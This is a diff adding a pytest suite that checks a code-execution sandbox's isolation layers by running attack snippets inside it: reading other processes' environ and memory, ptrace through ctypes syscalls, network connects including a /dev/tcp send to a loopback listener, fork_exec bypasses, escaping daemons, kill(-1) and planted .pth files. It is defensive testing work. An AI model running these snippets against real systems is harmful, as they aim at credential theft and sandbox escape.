@@ -1,0 +1,337 @@
+"""Isolation: each layer is attacked by a real snippet and checked from outside."""
+import os
+import socket
+import threading
+import time
+
+import pytest
+
+from conftest import SECRET, errors, survivors, texts
+
+MARKER_DIR = "/var/tmp"
+
+
+def marker_path(name: str) -> str:
+    return os.path.join(MARKER_DIR, f"sbx-marker-{name}-{os.getpid()}")
+
+
+@pytest.fixture
+def listener():
+    """A TCP server on loopback that records whether anything connected."""
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(8)
+    srv.settimeout(0.2)
+    hits = []
+    stop = threading.Event()
+
+    def accept():
+        while not stop.is_set():
+            try:
+                conn, _ = srv.accept()
+                hits.append(conn.recv(100))
+                conn.close()
+            except OSError:
+                continue
+
+    t = threading.Thread(target=accept, daemon=True)
+    t.start()
+    yield srv.getsockname()[1], hits
+    stop.set()
+    t.join()
+    srv.close()
+
+
+def no_secret(result: dict) -> None:
+    import json
+    assert SECRET not in json.dumps(result)
+
+
+# --- credentials -----------------------------------------------------------------------------
+
+def test_environment_holds_no_secret(worker):
+    r = worker.run("import os\nprint(dict(os.environ))\ntry:\n    print(open('/proc/self/environ','rb').read())\n"
+                   "except PermissionError as e:\n    print(e)")
+    assert r["status"] == "completed"
+    no_secret(r)
+    assert "AWS_" not in texts(r)
+
+
+def test_parent_and_every_process_environ_and_cmdline_is_unreadable_or_clean(worker):
+    code = ("import os\nfound = []\nfor p in os.listdir('/proc'):\n    if not p.isdigit(): continue\n"
+            "    for f in ('environ', 'cmdline'):\n        try:\n"
+            "            found.append(open(f'/proc/{p}/{f}', 'rb').read().decode(errors='replace'))\n"
+            "        except OSError:\n            pass\nprint('\\n'.join(found))\n"
+            "print(open(f'/proc/{os.getppid()}/environ','rb').read())")
+    r = worker.run(code)
+    no_secret(r)
+
+
+def test_runner_memory_is_unreadable(worker):
+    code = (f"pid = {worker.runner_pid}\n"
+            "maps = open(f'/proc/{pid}/maps').read()\nprint(maps[:100])")
+    r = worker.run(code)
+    assert r["status"] == "failed"
+    assert errors(r)[0]["name"] == "PermissionError"
+    code = (f"pid = {worker.runner_pid}\nf = open(f'/proc/{{pid}}/mem', 'rb')\nprint(f.read(16))")
+    r = worker.run(code)
+    assert r["status"] == "failed" and errors(r)[0]["name"] == "PermissionError"
+    no_secret(r)
+
+
+def test_ptrace_of_the_runner_is_refused(worker):
+    code = ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n")
+    # ctypes.CDLL is refused by the audit hook; go around it through the already-loaded pythonapi.
+    code = ("import ctypes, os\nsyscall = ctypes.pythonapi.syscall if hasattr(ctypes.pythonapi, 'syscall') else None\n"
+            "import _ctypes\n"
+            "libc = ctypes.CDLL(None, use_errno=True) if False else ctypes.pythonapi\n"
+            "f = libc.syscall\nf.restype = ctypes.c_long\n"
+            f"rc = f(ctypes.c_long(101 if os.uname().machine == 'x86_64' else 117), ctypes.c_long(16), ctypes.c_long({worker.runner_pid}), None, None)\n"
+            "print('rc', rc, ctypes.get_errno())")
+    r = worker.run(code)
+    assert "rc -1" in texts(r)
+    no_secret(r)
+
+
+def test_inherited_descriptors_are_closed(worker):
+    code = ("import os\nfor fd in sorted(int(x) for x in os.listdir('/proc/self/fd')):\n"
+            "    try: print(fd, os.readlink(f'/proc/self/fd/{fd}'))\n    except OSError: pass")
+    r = worker.run(code)
+    lines = texts(r).splitlines()
+    targets = [line.split(" ", 1)[1] for line in lines]
+    assert not any("socket:" in t for t in targets), targets
+    # stdin (/dev/null), stdout/stderr (one pipe), the job pipe's read end (closed), the result pipe,
+    # and the listdir's own fd.
+    assert len(lines) <= 5, lines
+
+
+# --- network ---------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("snippet", [
+    "import socket\ns = socket.socket(); s.connect(('127.0.0.1', PORT)); s.send(b'leak')",
+    "import socket\ns = socket.create_connection(('127.0.0.1', PORT), timeout=2); s.send(b'leak')",
+    "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:PORT/leak', timeout=2)",
+    "import socket\nsocket.getaddrinfo('example.com', 80)",
+    "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
+    "import socket\nsocket.socket(socket.AF_UNIX).connect('/run/some.sock')",
+    "import socket\ns = socket.socket(socket.AF_INET6); s.connect(('::1', PORT))",
+], ids=["tcp-loopback", "create-connection", "urllib", "dns", "raw-icmp", "unix-path", "tcp6"])
+def test_network_in_every_form_is_refused(worker, listener, snippet):
+    port, hits = listener
+    r = worker.run(snippet.replace("PORT", str(port)), limits={"timeout_ms": 5000})
+    assert r["status"] == "failed"
+    time.sleep(0.05)
+    assert hits == []
+
+
+def test_socket_syscall_through_ctypes_is_refused_by_seccomp(worker, listener):
+    port, hits = listener
+    code = ("import ctypes, os\nf = ctypes.pythonapi.syscall\nf.restype = ctypes.c_long\n"
+            "nr = 41 if os.uname().machine == 'x86_64' else 198\n"
+            "print('fd', f(ctypes.c_long(nr), ctypes.c_long(2), ctypes.c_long(1), ctypes.c_long(0)))")
+    r = worker.run(code)
+    assert texts(r) == "fd -1"
+    assert hits == []
+
+
+def test_lifting_the_audit_hook_still_leaves_seccomp(worker, listener):
+    port, hits = listener
+    # _socket.socket skips the high-level wrapper; the kernel still refuses.
+    r = worker.run(f"import _socket\ns = _socket.socket(2, 1)\ns.connect(('127.0.0.1', {port}))")
+    assert r["status"] == "failed"
+    assert hits == []
+
+
+# --- processes and programs ---------------------------------------------------------------------
+
+def test_subprocess_and_os_system_are_refused(worker):
+    for code in ("import subprocess\nsubprocess.run(['id'])", "import os\nos.system('id')",
+                 "import os\nos.execv('/bin/sh', ['sh'])", "import pty\npty.spawn('/bin/sh')"):
+        r = worker.run(code)
+        assert r["status"] == "failed", code
+        assert errors(r)[0]["name"] == "PermissionError", (code, r)
+
+
+def test_fork_exec_bypass_runs_without_privilege_or_network(worker, listener):
+    """_posixsubprocess skips the audit hook: the program runs, but with no secret, no network."""
+    port, hits = listener
+    code = ("import _posixsubprocess, os\nr, w = os.pipe()\n"
+            "args = [b'/bin/sh', b'-c', b'id -u; env; cat /proc/$PPID/environ; "
+            f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo leak >&3']\n"
+            "pid = _posixsubprocess.fork_exec(args, [b'/bin/sh'], True, (w,), None, None, -1, -1, -1, -1, w, w, "
+            "-1, -1, False, False, -1, None, None, None, -1, None, False)\n"
+            "os.close(w)\nos.waitpid(pid, 0)\nprint(os.read(r, 100000).decode())")
+    r = worker.run(code)
+    no_secret(r)
+    time.sleep(0.05)
+    assert hits == []
+    if worker.posture == "root":
+        assert "61017" in texts(r) or r["status"] == "failed"
+
+
+def test_double_forked_setsid_daemon_does_not_survive(worker):
+    marker = marker_path(f"daemon-{worker.posture}")
+    code = ("import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+            f"        time.sleep(1.0)\n        open({marker!r}, 'w').write('escaped')\n        os._exit(0)\n"
+            "    os._exit(0)\nprint('parent done')")
+    r = worker.run(code)
+    assert r["status"] == "completed"
+    assert survivors(worker) == []
+    time.sleep(1.5)
+    assert not os.path.exists(marker)
+
+
+def test_fork_and_exit_hopper_does_not_survive(worker):
+    code = ("import os\nif os.fork() == 0:\n    os.setsid()\n    while True:\n        if os.fork() != 0:\n"
+            "            os._exit(0)\nprint('started')")
+    r = worker.run(code)
+    assert r["status"] == "completed"
+    assert survivors(worker) == []
+    time.sleep(0.3)
+    assert survivors(worker) == []
+
+
+def test_threads_that_keep_running_die_with_the_block(worker):
+    marker = marker_path(f"thread-{worker.posture}")
+    code = ("import threading, time\ndef later():\n    time.sleep(1.0)\n"
+            f"    open({marker!r}, 'w').write('x')\nthreading.Thread(target=later).start()\nprint('bye')")
+    r = worker.run(code, limits={"timeout_ms": 3000})
+    # A non-daemon thread keeps the block from ending until it finishes or the limit hits.
+    assert r["status"] in ("completed", "timed_out")
+    time.sleep(1.3)
+    assert survivors(worker) == []
+    assert not os.path.exists(marker) or r["status"] == "completed"
+    if os.path.exists(marker):
+        os.unlink(marker)
+
+
+def test_killing_the_parent_does_not_break_the_worker(worker):
+    r = worker.run("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nprint('tried')")
+    assert worker.alive()
+    assert worker.run("print(2)")["outputs"][0]["text"] == "2"
+    if worker.posture == "root":
+        assert r["status"] == "failed" and errors(r)[0]["name"] == "PermissionError"
+
+
+def test_kill_all_is_contained_in_root_posture(worker):
+    if worker.posture != "root":
+        pytest.skip("deployed posture shares one uid with the runner: kill(-1) is covered in test_deployed_kill_all")
+    r = worker.run("import os, signal\nos.kill(-1, signal.SIGKILL)\nprint('still here')")
+    # Only the slot's own uid is reachable, and kill(-1) spares the caller.
+    assert worker.alive()
+    assert r["status"] == "completed" and texts(r) == "still here"
+    assert worker.run("print(3)")["outputs"][0]["text"] == "3"
+
+
+# --- filesystem ----------------------------------------------------------------------------------
+
+def test_writes_outside_scratch_are_refused_or_wiped(worker):
+    here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+    targets = [os.path.join(here, "sandbox", "evil.py"), "/etc/evil", "/usr/lib/python3/dist-packages/evil.pth"]
+    for target in targets:
+        r = worker.run(f"open({target!r}, 'w').write('import os')")
+        assert r["status"] == "failed", target
+        assert errors(r)[0]["name"] == "PermissionError"
+        assert not os.path.exists(target)
+    r = worker.run("open('/tmp/evil.pth', 'w').write('import os; os.system(\"id\")')\n"
+                   "import os\nos.makedirs('/tmp/__pycache__', exist_ok=True)\n"
+                   "open('/tmp/sitecustomize.py', 'w').write('x=1')")
+    worker.settle()
+    for leftover in ("/tmp/evil.pth", "/tmp/__pycache__", "/tmp/sitecustomize.py"):
+        assert not os.path.exists(leftover), leftover
+
+
+def test_symlink_out_of_scratch_is_not_followed_when_collecting_files(worker):
+    r = worker.run("import os\nos.symlink('/etc/shadow', 'shadow')\nos.symlink('/etc', 'etcdir')\n"
+                   "open('real.txt', 'w').write('ok')")
+    names = [o["filename"] for o in r["outputs"] if o["type"] == "file"]
+    assert names == ["real.txt"]
+
+
+def test_dotdot_paths_cannot_reach_the_runner_scratch_root_siblings(worker):
+    r = worker.run("import os\nprint(os.listdir('..'), os.getpid())")
+    if worker.posture == "root":
+        # The scratch root is 0711 and not the slot's: it cannot be listed.
+        assert r["status"] == "failed" and errors(r)[0]["name"] == "PermissionError"
+    else:
+        # One uid for all: listing works, but only this block's own directory exists.
+        listed, pid = texts(r).rsplit(" ", 1)
+        assert listed == f"['{pid}']"
+
+
+def test_huge_file_count_is_wiped_after_the_block(worker):
+    r = worker.run("for i in range(2000):\n    open(f'f{i}', 'w').write('x')", limits={"max_files": 5})
+    assert r["status"] == "completed"
+    assert "were not returned" in texts(r, "sandbox") or "not examined" in texts(r, "sandbox")
+    assert worker.run("import os\nprint(len(os.listdir('.')))")["outputs"][0]["text"] == "0"
+
+
+# --- native code -----------------------------------------------------------------------------
+
+def test_loading_a_shared_object_is_refused(worker):
+    r = worker.run("import ctypes\nctypes.CDLL('libc.so.6')")
+    assert r["status"] == "failed" and errors(r)[0]["name"] == "PermissionError"
+
+
+def test_namespaces_and_mounts_are_refused_by_seccomp(worker):
+    code = ("import ctypes, os\nf = ctypes.pythonapi.syscall\nf.restype = ctypes.c_long\n"
+            "x86 = os.uname().machine == 'x86_64'\n"
+            "print(f(ctypes.c_long(272 if x86 else 97), ctypes.c_long(0x10000000)))\n"
+            "print(f(ctypes.c_long(165 if x86 else 40), None, None, None, None, None))\n"
+            "print(f(ctypes.c_long(321 if x86 else 280), ctypes.c_long(0), None, ctypes.c_long(0)))")
+    r = worker.run(code)
+    assert texts(r).split() == ["-1", "-1", "-1"]
+
+
+def test_multiprocessing_pool_works_inside_the_limits(worker):
+    r = worker.run("from multiprocessing import get_context\n"
+                   "with get_context('fork').Pool(2) as p:\n    print(sum(p.map(abs, [-1, -2, 3])))",
+                   limits={"timeout_ms": 20000})
+    # Lambda has no /dev/shm; here the pool works. Either way the result is clean.
+    assert r["status"] in ("completed", "failed")
+    if r["status"] == "completed":
+        assert texts(r) == "6"
+    assert survivors(worker) == []
+
+
+def test_layers_are_reported(worker):
+    layers = worker.layers
+    for layer in ("nondumpable", "subreaper", "clean_env", "close_fds", "rlimits", "no_new_privs", "seccomp"):
+        assert layers.get(layer), layer
+    if worker.posture == "root":
+        assert layers["uid"] == 61017 and layers["netns"] and layers["uid_kill"]
+    else:
+        assert "netns" not in layers and not layers["uid_kill"]
+
+
+def test_deployed_kill_all_ends_the_worker_which_fails_closed(fresh_worker):
+    """Inside Lambda the child shares the runner's uid: kill(-1) reaches the runner. The
+    invocation fails and the environment is discarded; nothing survives for the next tenant."""
+    w = fresh_worker("deployed")
+    with pytest.raises(EOFError):
+        w.run("import os, signal\nos.kill(-1, signal.SIGKILL)")
+    time.sleep(0.3)
+    from sandbox.runner import live_pids_of_uid
+    assert [p for p in live_pids_of_uid(65534 if os.geteuid() == 0 else os.geteuid())
+            if p not in (os.getpid(),)] == []
+
+
+def test_required_layer_missing_fails_closed(fresh_worker):
+    with pytest.raises(RuntimeError, match="not available on this kernel: netns"):
+        fresh_worker("deployed", SANDBOX_REQUIRE="seccomp,netns")
+
+
+def test_unknown_required_layer_is_a_config_error(fresh_worker):
+    with pytest.raises(RuntimeError, match="unknown layers"):
+        fresh_worker("deployed", SANDBOX_REQUIRE="seccomp,magic")
+
+
+def test_tenant_binding_refuses_a_second_organization(worker):
+    reply = worker.raw({"version": 1, "request_id": "t", "code": "print(1)"}, tenant="org_other")
+    assert reply["error"]["errorType"] == "TenantMismatch"
+
+
+def test_bad_payload_is_refused_by_the_contract(worker):
+    reply = worker.raw({"version": 1, "request_id": "t", "code": "print(1)", "extra": 1})
+    assert reply["error"]["errorType"] == "InvalidPayload"
+    assert "extra" in reply["error"]["errorMessage"]
